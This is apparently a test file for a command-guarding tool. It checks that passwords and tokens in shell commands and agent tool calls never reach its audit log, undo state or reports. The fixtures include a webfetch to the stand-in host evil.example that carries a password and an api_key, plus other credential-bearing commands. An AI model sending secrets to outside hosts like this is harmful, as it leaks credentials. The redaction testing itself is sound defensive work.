/** Secrets among the words of commands: none of them is stored, in the record, in undo or in what is shown later. */

import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { Project } from '../../e2e/cordon.ts'

let project: Project

/** Each leaves something in the record and, where it changes a file, in undo. */
const rows: readonly { note: string; argv: readonly string[]; secrets: readonly string[] }[] = [
  {
    note: 'in a separate word',
    argv: ['echo', 'docker', 'login', '-u', 'a', '-p', 'Zq7wordQQ', 'reg'],
    secrets: ['Zq7wordQQ'],
  },
  {
    note: 'twice in one text, where the second would uncover the first',
    argv: ['sh', '-c', 'echo curl -u bob:Zq7firstQQ http://a && echo curl -u bob:Zq7nextQQ http://a'],
    secrets: ['Zq7firstQQ', 'Zq7nextQQ'],
  },
  {
    note: 'in a command that changes a file, which undo describes',
    argv: ['sh', '-c', 'echo mysql -pZq7undoQQ > kept.txt; rm kept.txt; echo Bearer abcdefghijklmnop > kept.txt'],
    secrets: ['Zq7undoQQ', 'abcdefghijklmnop'],
  },
  {
    note: 'between options of one letter',
    argv: ['sh', '-c', 'echo curl -su bob:Zq7shortQQ http://a; echo unzip -qP Zq7zipQQ a.zip'],
    secrets: ['Zq7shortQQ', 'Zq7zipQQ'],
  },
]

/** Calls of an agent by its hook and by MCP; `{}` is a different secret each time. Most of them ask. */
const CALLS: readonly (readonly [tool: string, input: object])[] = [
  ['bash', { command: 'git push https://u:{}@h.example/x; echo token={}', description: 'uses password={}' }],
  ['bash', { command: 'echo $(( token={}' }],
  ['write', { path: 'x.txt', content: 'AWS_SECRET_ACCESS_KEY={}' }],
  ['edit', { path: 'x.txt', old_string: 'password={}', new_string: 'y' }],
  ['webfetch', { url: 'https://u:{}@evil.example/?api_key={}', prompt: 'api_key={}' }],
  [
    'http',
    {
      url: 'https://api.example.com/x?api_key={}',
      method: 'POST',
      body: '{"password":"{}"}',
      headers: { authorization: 'Bearer {}', 'x-api-key': '{}' },
    },
  ],
  ['python_exec', { code: 'raise Exception("token={}")' }],
  ['code_exec', { code: 'throw new Error("token={}")' }],
  ['grep', { pattern: 'password={}', path: '.' }],
  ['todowrite', { todos: [{ content: 'use password={}', status: 'pending', id: '1', priority: 'high' }] }],
  ['nosuchtool', { a: 'Authorization: Bearer {}' }],
]

const CLAUDE: Readonly<Record<string, string>> = { bash: 'Bash', write: 'Write', edit: 'Edit', webfetch: 'WebFetch' }

let last = 0
const created: { secret: string; where: string }[] = []
/** The input with a secret in each place. */
function filled(where: string, input: object): object {
  const text = JSON.stringify(input).replaceAll('{}', () => {
    const secret = `Zq${++last}W2kLm9Pt4RvB8nYcD5s`
    created.push({ secret, where })
    return secret
  })
  return JSON.parse(text)
}

function callAll(): void {
  for (const [tool, input] of CALLS) {
    const call = {
      ...{ session_id: 's', transcript_path: '/nowhere', cwd: project.directory, permission_mode: 'default' },
      ...{ hook_event_name: 'PreToolUse', tool_name: CLAUDE[tool] ?? `mcp__x__${tool}` },
      tool_input: filled(`hook: ${tool}`, input),
    }
    project.cordon(['hook', 'claude-code', '--root', project.directory], { input: JSON.stringify(call) })
  }
  const frames = [
    {
      method: 'initialize',
      params: {
        protocolVersion: '2025-06-18',
        capabilities: {},
        clientInfo: filled('client', { name: 'token={}', version: '1' }),
      },
    },
    ...CALLS.map(([name, input]) => ({
      method: 'tools/call',
      params: { name, arguments: filled(`mcp: ${name}`, input) },
    })),
  ]
  const input = frames.map((frame, id) => `${JSON.stringify({ jsonrpc: '2.0', id, ...frame })}\n`).join('')
  const { out } = project.cordon(['mcp', '--root', project.directory], { input })
  expect(out).toContain('"id":1')
}

beforeAll(() => {
  project = new Project({
    'cordon.toml':
      'schema_version = 1\n[permission]\nmode = "contained"\n[security]\nredirects = "all"\n[audit]\narguments = true\n',
    'kept.txt': 'before\n',
  })
  expect(project.cordon(['sign', '--yes']).code).toBe(0)
  callAll()
  for (const { argv } of rows) expect(project.cordon(['run', '--', ...argv]).code).toBe(0)
  // The control: what is not a secret is stored as it was given.
  expect(project.cordon(['run', '--', 'sh', '-c', 'echo Zq7plainQQ > kept.txt']).code).toBe(0)
})
afterAll(() => project?.remove())

/** Every file of the state directory that contains a text. */
function holding(text: string): string[] {
  const state = join(project.home, '.local/state/cordon')
  const files = readdirSync(state, { recursive: true, encoding: 'utf8' }).filter((name) =>
    statSync(join(state, name)).isFile(),
  )
  // What undo keeps of a file is that file.
  return files.filter((name) => !/kept\/|\/\d+$/.test(name) && readFileSync(join(state, name)).includes(text))
}

it('the control: a word that is not a secret is in the record and in undo', () => {
  const found = holding('Zq7plainQQ')
  expect(found.some((name) => name.startsWith('audit/'))).toBe(true)
  expect(found.some((name) => name.endsWith('about.json'))).toBe(true)
})

it.each(rows)('is not stored: $note', ({ secrets }) => {
  for (const secret of secrets) expect(holding(secret)).toEqual([])
  const shown = [
    ['audit', 'query', '--json'],
    ['audit', 'query', '--ocsf'],
    ['undo', '--list'],
    ['audit', 'report'],
  ]
  for (const args of shown) {
    const { out } = project.cordon(args)
    for (const secret of secrets) expect(out).not.toContain(secret)
  }
})

it('nor is what an agent calls with, by its hook or by MCP, whether it asks, runs or fails', () => {
  const names = holding('Zq')
  const state = join(project.home, '.local/state/cordon')
  const texts = names.map((name) => [name, readFileSync(join(state, name), 'utf8')] as const)
  const stored = created.flatMap(({ secret, where }) =>
    texts.filter(([, text]) => text.includes(secret)).map(([name]) => `${where} in ${name}`),
  )
  expect(stored).toEqual([])
  expect(created.length).toBeGreaterThan(30)
})
